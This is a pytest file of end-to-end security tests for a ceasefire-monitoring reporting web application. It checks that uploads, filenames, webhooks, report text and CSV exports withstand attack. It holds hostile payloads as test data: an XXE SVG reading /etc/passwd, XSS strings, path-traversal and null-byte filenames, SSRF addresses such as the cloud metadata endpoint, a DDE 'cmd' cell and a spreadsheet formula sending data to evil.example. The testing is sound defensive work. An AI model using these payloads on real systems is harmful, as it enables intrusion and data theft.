"""Attacks from end to end, over the served centre as anyone on the line reaches it."""

from __future__ import annotations

import csv
import io
import re
import socket
from collections.abc import Iterator, Mapping
from dataclasses import replace
from html import unescape
from pathlib import Path

import httpx
import pytest

from ceasefire.centre.channels.models import Delivery, Subscription
from ceasefire.centre.channels.outward.addresses import Way
from ceasefire.centre.channels.outward.delivering import Caller, deliver_due
from ceasefire.centre.judging.refreshing import refresh
from ceasefire.centre.opened import Centre
from ceasefire.centre.people.models import ReporterThread
from ceasefire.centre.reporting.return_code import new_code
from ceasefire.centre.rights import Right
from ceasefire.centre.serving.application import Application
from ceasefire.centre.web.pages import report, report_return
from ceasefire.pipeline.report import Channel
from ceasefire.publication.exports import FORMULA_STARTS
from tests.attacks.test_hostile_text import TEXTS
from tests.attacks.test_hostile_uploads import archive
from tests.centre.channels.servers.listener import listener
from tests.centre.reporting.filled import TOLD
from tests.centre.reporting.pictures import SECRET, photograph, png_claiming
from tests.centre.serving.conftest import Site, served
from tests.centre.serving.signed_in import posted, visitor
from tests.centre.web.centres import close, copied

BOUNDARY = "----of-a-test"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"open")'
HIDDEN = re.compile(r'<input type="hidden" name="(\w+)" value="([^"]*)">')


# One centre is open in a process at a time: the tests that share one stand before those that open their own.
@pytest.fixture(scope="module")
def shared_centre(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Centre]:
    opened = copied("hudaydah-2018", tmp_path_factory.mktemp("attacked") / "workspace")
    yield opened
    close(opened)


@pytest.fixture(scope="module")
def shared_site(shared_centre: Centre) -> Iterator[Site]:
    with served(Application(shared_centre)) as running:
        running.client.get("/report/")
        yield running


@pytest.fixture
def site(centre: Centre) -> Iterator[Site]:
    for flood in (report.SENDING, report_return.OPENING):
        flood._began = float("-inf")
    with served(Application(centre)) as running:
        yield running


def form(fields: Mapping[str, str], files: Mapping[bytes, bytes]) -> bytes:
    """A form with files, byte by byte: names as no browser would write them."""
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n' for name, value in fields.items()
    ]
    body = "".join(parts).encode()
    for name, content in files.items():
        head = b'Content-Disposition: form-data; name="files"; filename="' + name + b'"\r\nContent-Type: image/jpeg\r\n\r\n'
        body += f"--{BOUNDARY}\r\n".encode() + head + content + b"\r\n"
    return body + f"--{BOUNDARY}--\r\n".encode()


def preview(site: Site, files: Mapping[bytes, bytes], **changed: str) -> httpx.Response:
    body = form({**TOLD, **changed, "step": "preview"}, files)
    headers = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}
    return site.client.post("/report/?lang=en", content=body, headers=headers)


def send(site: Site, page: httpx.Response) -> httpx.Response:
    fields = {name: unescape(value) for name, value in HIDDEN.findall(page.text.partition("data-report")[2])}
    return site.client.post("/report/?lang=en", data={**fields, "step": "send"})


def files_of(centre: Centre) -> set[Path]:
    beside = (".sqlite3-wal", ".sqlite3-shm")
    return {path for path in centre.workspace.folder.parent.rglob("*") if path.is_file() and path.suffix not in beside}


HARMFUL = {
    "zip bomb": archive(),
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg that reads files": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "picture and archive": photograph() + archive(),
    "picture and script": photograph("PNG") + b"<script>alert(1)</script>",
    "picture bomb": png_claiming(60_000, 60_000),
    "web page": b"<html><script>alert(1)</script></html>",
    "program": b"MZ\x90\0" + b"\0" * 100,
    "nothing": b"",
}


@pytest.mark.parametrize("kind", HARMFUL)
def test_a_harmful_file_is_named_to_who_sent_it_and_kept_nowhere(kind: str, shared_centre: Centre, shared_site: Site) -> None:
    before, size = files_of(shared_centre), shared_centre.workspace.ledger_size
    answer = preview(shared_site, {b"photo.jpg": HARMFUL[kind]})
    assert answer.status_code == 422 and "File 1" in answer.text
    assert "Three shells beside the well." in answer.text, "what was written stands"
    assert not HARMFUL[kind] or HARMFUL[kind] not in answer.content
    assert not (shared_centre.workspace.folder / "held").exists()
    assert files_of(shared_centre) == before and shared_centre.workspace.ledger_size == size


NAMES = (
    b"../../../../etc/cron.d/x.jpg",
    b"..\\..\\keys\\web.key",
    b"/etc/passwd",
    b"%2e%2e%2fkeys%2fweb.key",
    b"keys/web.key\x00.jpg",
    b'x.jpg\\"; name=\\"step',
    b"<script>alert('xss-7791')</script>.jpg",
    b"=cmd|' /C calc'!A1.csv",
    b"{{ settings.SECRET_KEY }}.jpg",
)


@pytest.mark.parametrize("name", NAMES)
def test_no_name_of_a_file_leads_anywhere_or_is_kept(name: bytes, shared_centre: Centre, shared_site: Site) -> None:
    centre, site = shared_centre, shared_site
    report.SENDING._began = float("-inf")
    outside = {path for path in files_of(centre) if not path.is_relative_to(centre.workspace.folder)}
    before = {one.id for one in centre.workspace.reports()}
    seen = preview(site, {name: photograph()})
    assert seen.status_code == 200 and "1 picture" in seen.text
    sent = send(site, seen)
    assert sent.status_code == 200 and "Your report has arrived" in sent.text
    (picture,) = [one for one in centre.workspace.reports() if one.id not in before and one.media_type == "image/jpeg"]
    assert SECRET not in picture.verbatim and picture.channel is Channel.WEB
    assert {path for path in files_of(centre) if not path.is_relative_to(centre.workspace.folder)} == outside
    kept = b"".join(path.read_bytes() for path in files_of(centre) if path.parent.name != "keys")
    for text in (seen.content, sent.content, kept):
        assert name not in text and b"xss-7791" not in text
    assert not list((centre.workspace.folder / "held").iterdir())


@pytest.mark.parametrize(
    "head",
    [
        'form-data; name="files"; filename="a.jpg"\r\nX-Injected: yes',
        'form-data; name="what\r\nX-Injected: yes"',
        "form-data",
        "attachment; filename=../../x",
    ],
)
def test_no_form_that_is_put_together_wrongly_makes_the_server_fail(head: str, shared_site: Site) -> None:
    body = f"--{BOUNDARY}\r\nContent-Disposition: {head}\r\n\r\nx\r\n--{BOUNDARY}--\r\n".encode()
    headers = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}
    answer = shared_site.client.post("/report/", content=body, headers=headers)
    assert answer.status_code in (200, 400, 422) and "X-Injected" not in answer.headers


INNER = (
    "https://127.0.0.1/",
    "https://localhost:443/",
    "https://169.254.169.254/latest/meta-data/",
    "https://[::1]/",
    "https://[::ffff:10.0.0.1]/",
    "https://2130706433/",
    "https://0x7f000001/",
    "http://example.org/",
    "file:///etc/passwd",
    "https://user:pw@127.0.0.1/",
    "https://example.org:22/",
)


@pytest.mark.parametrize("address", INNER)
def test_no_webhook_into_the_inner_network_can_be_noted_down(address: str, shared_site: Site) -> None:
    administrator = visitor(shared_site, "administrator")
    answer = posted(administrator, "/channels/", "/channels/add/", {"label": "Radio", "url": address})
    assert answer.status_code == 422
    assert not Subscription.objects.exists() and not Delivery.objects.exists()


@pytest.mark.parametrize("text", TEXTS)
def test_text_in_a_report_stays_text_until_the_desk_reads_it(text: str, site: Site, centre: Centre) -> None:
    sent = site.report(words=f"seen: {text}", who=text, where=text, contact=text)
    assert sent.status_code in (201, 422)
    if sent.status_code == 422:
        sent = site.report(words=f"seen: {text}")
        assert sent.status_code == 201
    refresh(centre)
    desk = visitor(site, "monitor")
    for address in ("/inbox/", f"/inbox/{sent.json()['report']}/", "/incidents/", "/situation/"):
        page = desk.get(address)
        assert page.status_code == 200 and "X-Injected" not in page.headers
        assert "<script>alert" not in page.text and "<img src=x" not in page.text
        assert centre.secrets.web.hex() not in page.text


def test_no_cell_of_an_export_can_be_run_by_a_spreadsheet(centre: Centre) -> None:
    one = next(iter(centre.workspace.reports()))
    # A partner's file may call its rows whatever it likes.
    named = [replace(one, id=f"{sign}cmd|' /C calc'!A{number}") for number, sign in enumerate(FORMULA_STARTS[:4])]
    centre.workspace.record_reports(named)
    with served(Application(centre)) as site:
        assert site.report(words=FORMULA, where=FORMULA).status_code in (201, 422)
        refresh(centre)
        token = site.bearing("monitor", Right.EXPORT, Right.SEE_INCIDENTS)
        text = site.client.get("/api/exports/incidents.csv", headers=token).text
        public = site.client.get("/api/public/exports/incidents.csv").text
    rows = [cell for table in (text, public) for row in csv.reader(io.StringIO(table)) for cell in row]
    assert len(rows) > 500 and any("calc" in cell for cell in rows), "the attack is in the table"
    for cell in rows:
        assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), cell


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"[+-]\d+(\.\d+)?(e[+-]?\d+)?", cell) is not None


def test_a_name_that_leads_inward_later_is_called_neither_then(
    site: Site, centre: Centre, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A webhook is noted while its name is open, and called when it leads to this machine: every call looks anew."""
    where = ["93.184.216.34"]
    real = socket.getaddrinfo

    def answered(host: str, port: int, *rest: object, **more: object) -> object:
        if host == "hook.example":
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (where[0], port))]
        return real(host, port, *rest, **more)  # type: ignore[arg-type]

    monkeypatch.setattr(socket, "getaddrinfo", answered)
    administrator = visitor(site, "administrator")
    noted = posted(administrator, "/channels/", "/channels/add/", {"label": "Radio", "url": "https://hook.example/in"})
    assert noted.status_code == 200 and Subscription.objects.count() == 1
    with listener() as inner:
        where[0] = "127.0.0.1"
        deliver_due(centre, Caller(way=Way(ports=(443, inner.port))))
        assert inner.got == []
    (delivery,) = Delivery.objects.all()
    assert delivery.state == Delivery.GIVEN_UP and delivery.failures == 1


def test_a_webhook_that_sends_the_centre_inward_is_not_followed(site: Site, centre: Centre) -> None:
    (centre.workspace.folder / "channels.toml").write_text("[outward]\nallow_loopback = true\n", encoding="utf-8")
    with listener() as outer, listener() as inner:
        outer.status, outer.headers = 302, {"Location": f"http://127.0.0.1:{inner.port}/admin"}
        url = f"http://127.0.0.1:{outer.port}/in"
        noted = posted(visitor(site, "administrator"), "/channels/", "/channels/add/", {"label": "Radio", "url": url})
        assert noted.status_code == 200
        deliver_due(centre, Caller(way=Way(allow_loopback=True)))
        assert len(outer.got) == 1 and inner.got == []


def test_nobody_but_the_administrator_notes_a_webhook_down(site: Site) -> None:
    for seat in ("monitor", "co-chair-rcc-government-team", "liaison-ansar-allah"):
        person = visitor(site, seat)
        answer = posted(person, "/accounts/sessions/", "/channels/add/", {"label": "Radio", "url": "https://example.org/"})
        assert answer.status_code == 403
    assert not Subscription.objects.exists()


def test_ten_words_open_their_own_report_and_no_other(site: Site, centre: Centre) -> None:
    mine = site.report(words="the first report, about the well", return_code="yes").json()
    other = site.report(words="the second report, about the bridge", return_code="yes").json()
    own = site.client.post("/report/return/?lang=en", data={"code": mine["return_code"]})
    assert (own.status_code == 200 and "about the well" not in own.text) or "about the bridge" not in own.text
    assert other["report"] not in own.text
    words = mine["return_code"].split()
    for number in range(10):
        changed = [*words]
        changed[number] = other["return_code"].split()[number]
        answer = site.client.post("/report/return/?lang=en", data={"code": " ".join(changed)})
        assert answer.status_code in (404, 422) or changed == words
    for _ in range(10):
        assert site.client.post("/report/return/", data={"code": new_code().text}).status_code == 404
    added = site.client.post(
        "/report/return/?lang=en",
        data={"code": mine["return_code"], "step": "add", "words": "more", "report": other["report"], "thread": "1"},
    )
    assert added.status_code == 200
    threads = {thread.pk: thread.reports.count() for thread in ReporterThread.objects.all()}
    assert sorted(threads.values()) == [1, 2]
